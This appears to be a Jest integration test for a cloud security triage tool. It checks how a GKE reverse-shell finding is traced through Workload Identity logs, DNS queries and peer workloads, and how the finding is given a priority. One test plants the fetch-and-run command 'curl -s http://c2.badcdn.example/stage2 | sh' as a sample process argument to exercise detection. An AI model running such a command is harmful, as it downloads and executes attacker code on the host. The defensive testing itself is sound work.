/**
 * What happened next, end to end: the real @google-cloud/logging client over gRPC to the local
 * LoggingServiceV2, on the fixture corpus plus the identity fixtures (test/fixtures/identity,
 * sources in test/fixtures/SOURCES.md). The pod was created two days before detection, so its
 * identity comes from the create entry the follow-up stage looks up by the containers' start.
 */
import { copyFileSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseConfig } from '../../src/config';
import { triage } from '../../src/engine';
import { CloudLoggingSource } from '../../src/logs/cloud-logging';
import { renderText } from '../../src/summary/render-text';
import type { Summary } from '../../src/summary/schema';
import { fixturesDir, loadSample, logsDir } from '../support/fixtures';
import { type LoggingServer, startLoggingServer } from '../support/logging-server';
import { CloudWorkloadSpecSource } from '../../src/specs/cloud';
import { type WorkloadApiServer, startWorkloadApiServer } from '../support/workload-api-server';

const identityDir = join(fixturesDir, 'identity');
const config = parseConfig({ FINDING_SOURCE: 'none', GOOGLE_CLOUD_PROJECT: 'scc-triage-test' });
const tmp: string[] = [];

/** A corpus folder: the fixture logs, and the identity entries `keep` accepts. */
function corpus(keep: (insertId: string) => boolean): string {
  const dir = mkdtempSync(join(tmpdir(), 'identity-corpus-'));
  tmp.push(dir);
  for (const name of readdirSync(logsDir)) copyFileSync(join(logsDir, name), join(dir, name));
  for (const name of readdirSync(identityDir)) {
    const lines = readFileSync(join(identityDir, name), 'utf8')
      .split('\n')
      .filter((line) => line.trim() !== '' && keep(JSON.parse(line).insertId));
    writeFileSync(join(dir, name), `${lines.join('\n')}\n`);
  }
  return dir;
}

async function triageOn(dir: string, notification: Record<string, any>): Promise<{ summary: Summary; server: LoggingServer }> {
  const server = await startLoggingServer(dir);
  try {
    const logs = new CloudLoggingSource({ project: 'scc-triage-test', emulatorHost: `${server.host}:${server.port}` });
    const result = await triage(notification, { logs, now: () => new Date('2025-03-04T15:00:00Z') }, config);
    if (result.kind === 'skipped') throw new Error('unexpected skip');
    return { summary: result.summary, server };
  } finally {
    await server.stop();
  }
}

/** The reverse-shell sample at a lower severity, so only what the identity did can make it P1. */
function quietSample(destination: string): Record<string, any> {
  const sample = loadSample('gke-reverse-shell.json');
  sample.finding.severity = 'LOW';
  sample.finding.sourceProperties.Reverse_Shell_Stdin_Redirection_Dst_Ip = destination;
  return sample;
}

afterAll(() => {
  for (const dir of tmp) rmSync(dir, { recursive: true, force: true });
});

describe('identity_activity through the real Logging client', () => {
  it("finds the pod's Workload Identity principal and its calls, and a token used from the shell's destination is P1 with that reason", async () => {
    const { summary } = await triageOn(
      corpus(() => true),
      loadSample('gke-reverse-shell.json'),
    );
    expect(summary.identity).toMatchObject({
      status: 'found',
      source: 'gke_pod_create',
      fromInsertId: 'id-pod-create',
      principal: 'principal://iam.googleapis.com/projects/408150112233/locations/global/workloadIdentityPools/acme-payments-prod.svc.id.goog/subject/ns/payments/sa/checkout-api',
      delegationSubject: 'serviceAccount:acme-payments-prod.svc.id.goog[payments/checkout-api]',
    });
    const section = summary.logs.find((s) => s.name === 'identity_activity')!;
    expect(section.status).toBe('ok');
    // Its own calls, direct and through the bound Google service account; never another KSA's or
    // namespace's, nor id-before, 17 minutes before detection (the section starts 10 minutes before).
    expect(section.entries.map((e) => e.insertId).sort()).toEqual(['id-gsa-key-create', 'id-gsa-token', 'id-wif-list-buckets', 'id-wif-secret']);
    const activity = summary.identity!.activity!;
    expect(activity.callsBefore).toBe(0);
    expect(activity.afterDetection.map((g) => g.class)).toEqual(['token_minting', 'key_creation', 'secret_access', 'storage']);
    expect(activity.foreignCallers.map((c) => [c.ip, c.calls, c.isDestination])).toEqual([
      ['203.0.113.45', 2, true],
      ['198.51.100.23', 1, false],
    ]);
    expect(summary.assessment.priority).toBe('P1');
    expect(summary.assessment.reasons[1]).toMatch(/made 2 call\(s\) from 203\.0\.113\.45, the reverse-shell destination: its token is in the attacker's hands/);
    // Who else talked to the destination: another pod (its flow and its denied connection) and a VM; the finding's own pod last.
    expect(summary.logs.find((s) => s.name === 'indicator_sweep')).toMatchObject({ status: 'ok', matched: 4 });
    expect(summary.blastRadius?.peers.map((p) => [p.kind, p.name, p.sources, p.self])).toEqual([
      ['pod', 'ledger/ledger-worker-5f7c9d8b6-zx4kp', ['vpc_flows', 'firewall'], false],
      ['vm', 'batch-runner-1', ['vpc_flows'], false],
      ['pod', 'payments/checkout-api-6d8f9c7b5-q2w8x', ['vpc_flows'], true],
    ]);
  });

  it('a host name from the command line is swept in the DNS query logs; no other workload is said as plainly', async () => {
    const sample = loadSample('gke-reverse-shell.json');
    sample.finding.processes[0].args = ['sh', '-c', 'curl -s http://c2.badcdn.example/stage2 | sh'];
    const { summary } = await triageOn(
      corpus((id) => id.startsWith('dns-') || id.startsWith('id-pod')),
      sample,
    );
    expect(summary.blastRadius?.indicators).toEqual({ ips: ['203.0.113.45'], hosts: ['c2.badcdn.example'] });
    // No flow ties the asking address to a pod here, so the query counts for the VM (the pod's node) the entry names.
    expect(summary.blastRadius?.peers.map((p) => [p.kind, p.name, p.ips, p.sources, p.self])).toEqual([
      ['vm', 'gke-payments-gke-1-default-pool-7c1d2e3f-k9lm', ['10.44.2.17'], ['dns_queries'], false],
    ]);
    const quiet = await triageOn(
      corpus((id) => id.startsWith('id-pod')),
      loadSample('gke-reverse-shell.json'),
    );
    expect(quiet.summary.blastRadius?.peers).toEqual([]);
    expect(renderText(quiet.summary)).toContain('no other workload talked to 203.0.113.45 in the window');
  });

  it('the same finding at LOW with no foreign call is not raised by the identity', async () => {
    const { summary } = await triageOn(
      corpus((id) => !['id-wif-secret', 'id-gsa-key-create', 'id-gsa-token'].includes(id)),
      quietSample('10.44.9.9'),
    );
    expect(summary.identity?.activity?.foreignCallers).toEqual([]);
    expect(summary.identity?.activity?.callsAfter).toBe(1);
    expect(summary.assessment.priority).not.toBe('P1');
    expect(summary.assessment.reasons.join('\n')).not.toMatch(/token/);
  });

  it('at LOW, calls from public addresses that are not the destination raise it to P2, saying what else they may be', async () => {
    const { summary } = await triageOn(
      corpus(() => true),
      quietSample('10.44.9.9'),
    );
    expect(summary.assessment.priority).toBe('P2');
    expect(summary.assessment.reasons.join('\n')).toMatch(/from 203\.0\.113\.45, a public address: a stolen token, unless it is a node's external address, Cloud NAT/);
  });

  it('without the pod create entry the identity is unknown, and the section is skipped with the reason', async () => {
    const { summary } = await triageOn(
      corpus((id) => id !== 'id-pod-create'),
      loadSample('gke-reverse-shell.json'),
    );
    expect(summary.identity).toEqual({ status: 'unknown', reason: "the pod's create entry carries no pod spec" });
    expect(summary.logs.find((s) => s.name === 'identity_activity')).toMatchObject({ status: 'skipped', reason: "the pod's create entry carries no pod spec" });
  });
});

describe("identity_activity with the cluster's spec, through the Container API stand-in", () => {
  let api: WorkloadApiServer;
  const cluster = 'projects/acme-payments-prod/locations/europe-west1/clusters/payments-gke-1';
  const specs = JSON.parse(readFileSync(join(fixturesDir, 'specs', 'workload-specs.json'), 'utf8')) as Record<string, any>;
  const withPool = (mode: string) => ({
    ...specs,
    [cluster]: { ...specs[cluster], nodePools: [{ name: 'default-pool', config: { serviceAccount: 'gke-nodes@acme-payments-prod.iam.gserviceaccount.com', workloadMetadataConfig: { mode } } }] },
  });

  afterEach(() => api?.stop());

  async function triageWith(resources: Record<string, any>, before: (server: WorkloadApiServer) => void = () => undefined): Promise<Summary> {
    api = await startWorkloadApiServer(resources);
    before(api);
    const server = await startLoggingServer(corpus(() => true));
    try {
      const logs = new CloudLoggingSource({ project: 'scc-triage-test', emulatorHost: `${server.host}:${server.port}` });
      const specSource = new CloudWorkloadSpecSource({ emulatorHost: `${api.host}:${api.port}` });
      const result = await triage(quietSample('203.0.113.45'), { logs, specs: specSource, now: () => new Date('2025-03-04T15:00:00Z') }, config);
      if (result.kind === 'skipped') throw new Error('unexpected skip');
      return result.summary;
    } finally {
      await server.stop();
    }
  }

  it("on a node pool without the GKE metadata server, reads the node's service account, and its token used from the destination is P1", async () => {
    const summary = await triageWith(withPool('GCE_METADATA'));
    expect(api.requests).toEqual([cluster]);
    expect(summary.identity).toMatchObject({ status: 'found', source: 'gke_node_pool', principal: 'gke-nodes@acme-payments-prod.iam.gserviceaccount.com', nodePool: 'default-pool' });
    expect(summary.identity?.caveat).toMatch(/every such node and pod shares/);
    // Exactly that account's calls: not the pod's KSA principal, not another node account's.
    expect(summary.logs.find((s) => s.name === 'identity_activity')?.entries.map((e) => e.insertId)).toEqual(['id-node-sa-secret']);
    expect(summary.assessment.priority).toBe('P1');
    expect(summary.assessment.reasons.join('\n')).toMatch(/from 203\.0\.113\.45, the reverse-shell destination/);
  });

  it('on a pool with the GKE metadata server, the KSA principal is confirmed: no caveat', async () => {
    const summary = await triageWith(withPool('GKE_METADATA'));
    expect(summary.identity).toMatchObject({ status: 'found', source: 'gke_pod_create', kubernetesServiceAccount: 'payments/checkout-api' });
    expect(summary.identity?.caveat).toBeUndefined();
  });

  it.each([
    ['the cluster is not found', () => undefined, /does not exist \(NOT_FOUND\)/],
    ['the API refuses', (server: WorkloadApiServer) => server.failNext(403, 'denied'), /PERMISSION_DENIED: grant container\.clusters\.get/],
  ])('when %s, the KSA principal is assumed, and the caveat says why', async (_case, before, why) => {
    const summary = await triageWith({}, before);
    expect(summary.identity).toMatchObject({
      status: 'found',
      source: 'gke_pod_create',
      caveat: expect.stringMatching(/^Workload Identity Federation is assumed: the cluster's spec could not be read/),
    });
    expect(summary.identity?.caveat).toMatch(why);
  });
});
